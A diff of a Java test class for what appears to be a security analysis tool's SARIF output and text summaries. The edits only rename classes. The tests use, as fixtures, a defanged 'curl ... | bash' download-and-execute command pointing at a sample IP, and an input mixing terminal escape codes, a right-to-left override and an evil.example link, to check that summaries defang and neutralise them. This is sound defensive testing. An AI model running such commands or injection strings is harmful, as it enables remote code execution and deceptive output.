@@ -36,7 +36,7 @@ class ProgramFormsTest {
             Files.copy(in, schema);
         }
         Path script = Files.writeString(folder.resolve("validate.py"), VALIDATE);
-        for (Analysis analysis : java.util.List.of(SampleAnalysis.plain(), SampleAnalysis.saying(Hostile.WORDS))) {
+        for (Analysis analysis : java.util.List.of(SampleAnalysis.plain(), SampleAnalysis.saying(HostileTexts.WORDS))) {
             Path sarif = Files.write(folder.resolve("findings.sarif"), Json.pretty(Sarif.of(analysis)));
             assertThat(validated(script, schema, sarif)).isEqualTo(new Shell.Result(0, ""));
         }
@@ -82,7 +82,7 @@ class ProgramFormsTest {
                         "argv[0] is sh",
                         one.evidence().getFirst()),
                 one.suppressed("node-exporter")));
-        JsonNode results = Sarif.of(Changed.findings(sample, findings)).at("/runs/0/results");
+        JsonNode results = Sarif.of(ChangedAnalysis.findings(sample, findings)).at("/runs/0/results");
         assertThat(results).hasSize(3);
         assertThat(results)
                 .extracting(result -> result.at("/message/text").asText())
@@ -96,7 +96,7 @@ class ProgramFormsTest {
                 .extracting(result -> result.path("suppressions").size())
                 .containsExactlyInAnyOrder(0, 0, 1);
         findings.removeLast();
-        assertThat(Sarif.of(Changed.findings(sample, findings)).at("/runs/0/results"))
+        assertThat(Sarif.of(ChangedAnalysis.findings(sample, findings)).at("/runs/0/results"))
                 .noneSatisfy(result -> assertThat(result.has("suppressions")).isTrue());
     }
 
@@ -127,11 +127,11 @@ class ProgramFormsTest {
 
     @Test
     void theSummaryFitsInAChat() {
-        assertThat(Summary.of(SampleAnalysis.plain()).lines())
+        assertThat(TextSummary.of(SampleAnalysis.plain()).lines())
                 .hasSizeLessThanOrEqualTo(40)
                 .anySatisfy(line -> assertThat(line).startsWith("Host "))
                 .anySatisfy(line -> assertThat(line).startsWith("Not seen "));
-        assertThat(Summary.of(SampleAnalysis.saying(Hostile.WORDS)).lines())
+        assertThat(TextSummary.of(SampleAnalysis.saying(HostileTexts.WORDS)).lines())
                 .hasSizeLessThanOrEqualTo(40)
                 .allSatisfy(
                         line -> assertThat(line).hasSizeLessThan(1000).doesNotContain("\u001b", "\u202e", "\u0000"));
@@ -144,17 +144,17 @@ class ProgramFormsTest {
         List<Finding> findings = new ArrayList<>(sample.findings());
         findings.add(findings.indexOf(twice), twice);
 
-        assertThat(Summary.of(Changed.findings(sample, findings)).lines())
+        assertThat(TextSummary.of(ChangedAnalysis.findings(sample, findings)).lines())
                 .filteredOn(line -> line.contains(twice.rule().id()) && line.endsWith(" (2 times)"))
                 .hasSize(1);
     }
 
     @Test
     void nothingInTheSummaryIsALinkOrHidesAnything() {
-        assertThat(Summary.of(SampleAnalysis.plain()))
+        assertThat(TextSummary.of(SampleAnalysis.plain()))
                 .doesNotContain("http://", "198.51.100.7/x.sh")
                 .contains("curl -fsSL hxxp[://]198[.]51[.]100[.]7/x[.]sh | bash");
-        assertThat(Summary.of(SampleAnalysis.saying(java.util.List.of("a\u202eb\u001b[2J https://evil.example/x"))))
+        assertThat(TextSummary.of(SampleAnalysis.saying(java.util.List.of("a\u202eb\u001b[2J https://evil.example/x"))))
                 .contains("a\\u202eb\\u001b[2J hxxps[://]evil[.]example/x")
                 .doesNotContain("evil.example");
     }
